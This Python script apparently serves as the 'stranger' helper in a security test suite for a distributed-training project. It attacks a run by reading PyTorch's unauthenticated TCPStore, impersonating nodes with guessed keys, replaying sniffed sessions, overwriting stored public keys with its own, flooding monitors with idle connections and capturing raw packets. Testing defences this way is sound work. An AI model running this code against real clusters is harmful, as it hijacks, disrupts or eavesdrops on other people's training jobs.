"""A host that does not belong to the run, and attacks it: `stranger.py ADDRESS STORE_PORT` attacks, `stranger.py record` listens.

It prints what it has learned and what was accepted, as one line of JSON.
"""

import asyncio
import hashlib
import json
import select
import socket
import struct
import sys
import time

from accel_ddp.nodes import messages
from accel_ddp.nodes.run_secret import NodeKeys

FAILURE = {"kind": "failed", "text": "planted", "line": "error: planted", "exit_code": 1, "rank": 0, "host": "x", "step": 1}
MESSAGES = [{"failure": FAILURE}, {"failed": FAILURE}, {"stop": "planted"}, {"ranks": 5}]
ENOUGH = 200  # bytes of a recorded connection: the handshake and a heartbeat
SET, GET = b"\x01", b"\x03"  # of torch's TCPStore


class Store:
    """A client of torch's TCPStore, which asks nobody for a password."""

    def __init__(self, address: str, port: int):
        self.sock = socket.create_connection((address, port), timeout=10)
        self.sock.sendall(b"\x00" + (0x3C85F7CE).to_bytes(4, "little"))

    def get(self, key: str) -> bytes:
        self.sock.sendall(GET + text(key))
        return self.sock.recv(int.from_bytes(self.sock.recv(8, socket.MSG_WAITALL), "little"), socket.MSG_WAITALL)

    def set(self, key: str, value: bytes) -> None:
        self.sock.sendall(SET + text(key) + text(value))


def text(value: str | bytes) -> bytes:
    value = value.encode() if isinstance(value, str) else value
    return len(value).to_bytes(8, "little") + value


async def pretend(address: str, port: int, key: bytes, node: int) -> bool:
    """Connect to a monitor as a node, and send what ends a run. Return whether the monitor has accepted the connection."""
    try:
        reader, writer = await messages.connect(address, port, 5)
        stream = await messages.handshake(reader, writer, key, node)
        for message in [{"hello": True}, *MESSAGES]:
            stream.write(message)
        await asyncio.wait_for(writer.drain(), 5)
        return True
    except (messages.HandshakeError, OSError, asyncio.TimeoutError):
        return False
    finally:
        writer.close()


def send_raw(address: str, port: int, data: bytes) -> bytes:
    """Send bytes and return the answer."""
    with socket.create_connection((address, port), timeout=5) as sock:
        sock.settimeout(0.2)
        try:
            sock.sendall(data)
            return sock.recv(1000)
        except OSError:
            return b""


def attack(address: str, store_port: int, recorded: dict[str, str]) -> None:
    store = Store(address, store_port)
    attempt = store.get("/attempt").decode()
    ranks = json.loads(store.get(f"/attempt/{attempt}/members"))
    found = {"ranks": ranks, "accepted": [], "learned": 0, "has_replayed": 0}
    ports = {0: (address, ranks[0]["monitor"][3]), 1: (ranks[1]["monitor"][2], ranks[1]["monitor"][3])}
    public, nonce = [rank["key"] for rank in ranks], ranks[0]["nonce"]
    known = [value.encode() for rank in ranks for value in (rank["key"], rank["nonce"]) if value]
    guesses = {f"guess {number}": key for number, key in enumerate([b"", *known, hashlib.sha256(b"").digest()])}
    own = NodeKeys("")
    for node, (ip, port) in ports.items():
        other = 1 - node
        keys = dict(guesses)
        if public[node]:
            keys["own key pair"] = own.shared_with(public[node], nonce, (node, other))
        for name, key in keys.items():
            for claimed in (other, 7):
                if asyncio.run(pretend(ip, port, key, claimed)):
                    found["accepted"].append(f"{name} as node {claimed} at {ip}:{port}")
        if stream := bytes.fromhex(recorded.get(str(port), "")):  # a whole session of the real node, from its first byte
            found["learned"] = max(found["learned"], len(send_raw(ip, port, stream)))
            found["has_replayed"] = len(stream)
        for data in (b"", b"GET / HTTP/1.1\r\n\r\n", messages.MAGIC + bytes(3), messages.MAGIC + bytes(200), bytes(70_000)):
            found["learned"] = max(found["learned"], len(send_raw(ip, port, data)) if data else 0)
    # The keys in the store are replaced by the stranger's own.
    for rank in ranks:
        rank["key"] = own.public
    store.set(f"/attempt/{attempt}/members", json.dumps(ranks).encode())
    for rank in (0, 1):
        store.set(f"/attempt/{attempt}/rank/{rank}", json.dumps(ranks[rank]).encode())
    for node, (ip, port) in ports.items():
        if asyncio.run(pretend(ip, port, own.shared_with(own.public, nonce, (0, 1)), 1 - node)):
            found["accepted"].append(f"replaced key at {ip}:{port}")
    print(json.dumps(found), flush=True)


def hold(targets: list[str], number: int) -> None:
    """Open idle and half-closed connections to every target, and hold them until stdin ends."""
    held = []
    for target in targets:
        address, _, port = target.rpartition(":")
        for one in range(number):
            with_data = socket.create_connection((address, int(port)), timeout=5)
            held.append(with_data)
            time.sleep(0.01 if number > 100 else 0)  # a flood that lasts some seconds
            if one % 2:
                with_data.shutdown(socket.SHUT_WR)
    print(f"holds {len(held)} connections", flush=True)
    sys.stdin.read()


def record() -> None:
    """Record what arrives on this node until stdin ends. Print the bytes of each TCP connection that begins with our first bytes."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 23)
    print("records", flush=True)
    segments: dict[tuple[int, int], dict[int, bytes]] = {}

    def streams() -> list[tuple[str, bytes]]:
        joined = [(str(target), b"".join(parts[at] for at in sorted(parts))) for (_, target), parts in segments.items()]
        return [(target, stream) for target, stream in joined if stream.startswith(messages.MAGIC)]

    # The connection of the monitors is the last one. Heartbeats come twice a second: at the end of stdin there may be no more than the
    # handshake, or packets that were not read.
    while not select.select([sys.stdin], [], [], 0)[0] or not (found := streams()) or len(found[-1][1]) <= ENOUGH:
        if not select.select([sock], [], [], 0.1)[0]:
            continue
        packet, where = sock.recvfrom(65536)
        head = (packet[0] & 15) * 4
        if packet[9] != 6 or where[2] == socket.PACKET_OUTGOING:
            continue
        source, target, at = struct.unpack(">HHI", packet[head : head + 8])
        data = packet[head + (packet[head + 12] >> 4) * 4 : struct.unpack(">H", packet[2:4])[0]]
        if data:
            segments.setdefault((source, target), {})[at] = data
    found.sort(key=lambda one: len(one[1]))  # of several connections to a port the longest is printed
    print(json.dumps({target: stream[:20_000].hex() for target, stream in found}), flush=True)


if __name__ == "__main__":
    if sys.argv[1] == "record":
        record()
    elif sys.argv[1] == "hold":
        hold(sys.argv[3:], int(sys.argv[2]))
    else:
        attack(sys.argv[1], int(sys.argv[2]), json.loads(sys.stdin.readline() or "{}"))
